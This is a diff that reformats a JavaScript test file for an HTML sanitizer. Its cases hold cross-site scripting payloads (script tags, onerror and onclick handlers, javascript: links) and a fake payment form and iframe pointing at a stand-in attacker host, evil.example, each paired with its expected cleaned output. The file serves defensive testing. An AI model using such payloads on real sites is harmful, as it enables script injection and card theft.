@@ -9,8 +9,16 @@ test.each([
   ['a script', '<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
   ['a handler', '<b onclick="alert(1)">Hi</b>', '<b>Hi</b>'],
   ['an image that fails on purpose', 'Hi<img src=x onerror=alert(1)>', 'Hi'],
-  ['an overlay', '<div style="position:fixed;inset:0" class="x" id="pay">Pay here</div>', '<div>Pay here</div>'],
-  ['a fake form', '<form action="https://evil.example"><input name="card"><button>Pay</button></form>', 'Pay'],
+  [
+    'an overlay',
+    '<div style="position:fixed;inset:0" class="x" id="pay">Pay here</div>',
+    '<div>Pay here</div>',
+  ],
+  [
+    'a fake form',
+    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
+    'Pay',
+  ],
   ['a style sheet', '<style>body{display:none}</style><p>Hi</p>', '<p>Hi</p>'],
   ['a frame', '<iframe src="https://evil.example"></iframe><p>Hi</p>', '<p>Hi</p>'],
   ['a script address', '<a href="javascript:alert(1)">Hi</a>', '<a>Hi</a>'],
@@ -23,8 +31,12 @@ test.each([
 });
 
 test('links to other places open beside the page and learn nothing of it', async () => {
-  expect(await cleanMarkup('<a href="https://example.org/x" target="top" rel="opener">Hi</a>')).toBe('<a href="https://example.org/x" rel="noopener noreferrer" target="_blank">Hi</a>');
-  expect(await cleanMarkup('<a href="/privacy">Hi</a>')).toBe('<a href="/privacy" rel="noopener noreferrer">Hi</a>');
+  expect(await cleanMarkup('<a href="https://example.org/x" target="top" rel="opener">Hi</a>')).toBe(
+    '<a href="https://example.org/x" rel="noopener noreferrer" target="_blank">Hi</a>',
+  );
+  expect(await cleanMarkup('<a href="/privacy">Hi</a>')).toBe(
+    '<a href="/privacy" rel="noopener noreferrer">Hi</a>',
+  );
 });
 
 test('text markup is shown, with its languages and tables', async () => {
